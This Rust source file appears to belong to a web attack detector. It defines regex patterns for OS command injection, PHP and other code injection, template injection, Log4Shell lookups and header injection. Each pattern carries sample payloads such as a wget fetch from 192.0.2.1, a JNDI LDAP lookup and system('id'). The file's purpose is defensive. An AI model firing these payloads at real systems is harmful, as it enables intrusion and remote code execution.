//! What injected commands, code and templates look like, and lookups of Log4j.

use super::{Attack, Class, Place};
use crate::parse::detect::probe::LOG4SHELL;

const fn command(name: &'static str, place: Place, pattern: &'static str, source: &'static str, example: &'static str) -> Attack {
    Attack { name, class: Class::Command, place, pattern, source, example }
}

/// Patterns over the plain text of a value, and over its tight text (no blanks, no quotes).
#[rustfmt::skip]
pub const COMMAND: &[Attack] = &[
    command("command behind a separator", Place::Target, r#"(?:[;|`\n\r]|\$\(|&|\|\||&&|<\(|>\(|\{)[\s({'"]*(?:/(?:usr/)?(?:local/)?s?bin/|[a-z]:\\windows\\(?:system32\\)?)?(?:cat|ls|id|whoami|who|uname|wget|curl|ping6?|nc|ncat|netcat|(?:ba|da|z|k|c|tc)?sh|python[23]?|perl|ruby|php|lua|node|env|printenv|set|dir|type|net|ipconfig|ifconfig|ip|sleep|timeout|echo|printf|rm|cp|mv|chmod|chown|kill|ps|netstat|nslookup|dig|host|telnet|ssh|scp|tftp|ftp|busybox|powershell|pwsh|cmd|certutil|bitsadmin|mshta|rundll32|regsvr32|exit|base64|xxd|touch|mkdir|cd|tee|head|tail|more|less|grep|awk|sed|find|uptime|hostname|pwd|reboot|expr|export|exec|sudo|su|crontab|nohup|xargs|dd|tar|mail|ver|systeminfo|tasklist|waitfor)(?:\.exe)?(?:[\s;|&`)<>#"'$\\{}/,]|$)"#, "CWE-78; OWASP WSTG-INPV-12", "/a?host=192.0.2.1;id"),
    command("command in a header", Place::Header, r"(?:[;|`]|\$\()\s*(?:/(?:usr/)?bin/\w+|(?:wget|curl|fetch|tftp)\s+(?:-\S+\s+)*(?:https?:|\d)|cat\s+/|(?:ba)?sh\s+-[ci]|nc\s+-|rm\s+-rf|chmod\s+\+?[x7])|^\(\)\s?\{", "CWE-78; CVE-2014-6271", "x;wget http://192.0.2.1/x"),
    command("blank of a shell", Place::Target, r"\$\{?ifs\b|\$\{?path\b|\$\{?home\b[^}]*/|\{cat,|\$\(\(|\b2>&1|>\s*/dev/|/dev/tcp/|<<<|;\s*\$\w|\|\s*base64\b|\$@|\bcmd(?:\.exe)?\s*/[ck]\b|\bcmd\.exe|/bin/(?:ba|da|z)?sh\b", "CWE-78; OWASP WSTG-INPV-12; POSIX, Shell Command Language", "/a?host=x|cat$IFS/x"),
    command("command with its letters apart", Place::Tight, r"[;|&`(](?:/bin/)?(?:cat|whoami|wget|curl|uname|bash)(?:/etc|\$|<|/|-|http|[;|&`]|$)", "CWE-78; POSIX, Quoting", "/a?x=;c'a't /etc/x"),
    command("code of PHP", Place::Target, r"<\?(?:php|=|\s)|\b(?:system|passthru|shell_exec|popen|proc_open|pcntl_exec|phpinfo|call_user_func(?:_array)?|base64_decode|file_get_contents|file_put_contents|create_function|exit|die|assert|preg_replace|md5|var_dump|print_r|include|require|array_map|str_rot13|gzinflate|readfile|fopen|highlight_file|show_source)\s*\(\s*[^\s)]|\bphpinfo\s*\(|\$_(?:get|post|request|server|cookie)\b|\ballow_url_include\b", "CWE-94; CWE-95; OWASP WSTG-INPV-11", "/a?x=;system('id')"),
    command("code of other languages", Place::Target, r#"__(?:class|mro|subclasses|globals|builtins|import|init|base|bases|dict)__|\bos\.(?:system|popen)|\bsubprocess\b|\b__import__\b|\bkernel\.(?:exec|system|fork)|\b(?:io|file)\.(?:popen|read)\b|\bchild_process\b|\brequire\s*\(\s*['"]|\bprocess\.(?:env|mainmodule|exit)|\bjava\.(?:lang|io|util)\.|\bprocessbuilder\b|\bgetruntime\b|\.getclass\b|\bclassloader\b|%x[({]|\bexec\s*\(|\beval\s*\(|\bsystem\s*[(']|`\s*[\w/ -]+\s*`|\bexec\s+['"]"#, "CWE-94; OWASP WSTG-INPV-11, WSTG-INPV-18", "/a?x=''.__class__"),
    command("expression in a template", Place::Anywhere, r#"\{\{[^}]*(?:[*('"\[|]|__|\bconfig\b|\bself\b|\brequest\b|\.constructor)|\$\{\s*(?:[^}]*[*(\x22']|[\w']+\s*[+*])|#\{[^}]*[*(.\x22']|[@*~%]\{[^}]*[*(#]|<%=?[^>]*[*(.'\x22]|\{%\s*(?:for|if|set|import|include|extends|debug|print|with|block|macro|raw|autoescape)\b|#(?:set|foreach|evaluate|include|parse)\s*\(|@\(\s*\d+\s*[*+]|\{\s*\d+\s*\*\s*\d+\s*\}|\[=[^\]]*[*(]|\{php\}|\{\$smarty|\{@math|<#assign|\?new\(\)"#, "CWE-1336; OWASP WSTG-INPV-18", "/a?name={{7*7}}"),
    command("lookup of Log4j", Place::Anywhere, LOG4SHELL, "CVE-2021-44228, CVE-2021-45046", "/a?x=${${lower:j}ndi:ldap://192.0.2.1/a}"),
    command("header behind a line break", Place::Target, r"[\r\n]\s*(?:set-cookie|location|content-(?:type|length|security-policy|disposition)|x-[\w-]+|refresh|link|access-control-[\w-]+|transfer-encoding|http/1|host|get\s|post\s)\s*[:\s/.]", "CWE-113; OWASP WSTG-INPV-15", "/a?x=1\r\nset-cookie: a=b"),
];
